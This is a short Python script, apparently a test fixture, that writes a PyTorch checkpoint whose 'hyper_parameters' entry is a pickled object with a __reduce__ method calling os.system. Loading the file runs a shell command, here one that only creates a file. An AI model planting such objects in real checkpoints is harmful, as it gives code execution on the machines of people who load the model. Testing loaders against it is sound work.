"""A checkpoint that writes a file when it is unpickled. Run in the neural environment."""

import os
import sys

import torch


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {sys.argv[2]}",)


torch.save({"state_dict": {}, "hyper_parameters": Evil()}, sys.argv[1])
